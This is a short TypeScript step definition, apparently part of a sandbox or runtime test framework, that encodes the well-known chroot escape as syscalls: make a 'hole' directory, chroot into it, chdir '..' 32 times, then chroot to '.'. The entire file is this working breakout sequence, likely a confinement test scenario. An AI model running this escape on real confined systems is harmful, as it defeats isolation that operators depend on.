import { call, type Step } from '@rt/program'
import { AT_FDCWD } from '@rt/sys'

/**
 * The escape of every chroot tutorial: with the working directory kept above a second, smaller root, ".." leads up to
 * the real one, for a root of its own is all that stops it.
 */
export const walkOutOfChroot: Step = {
  name: 'escape',
  why: 'the classic way out of a chroot',
  'init.pivot': [
    call('mkdirat', [AT_FDCWD, 'hole', 0o755], { tolerate: ['EEXIST'] }),
    call('chroot', ['hole']),
    ...Array.from({ length: 32 }, () => call('chdir', ['..'])),
    call('chroot', ['.']),
  ],
}
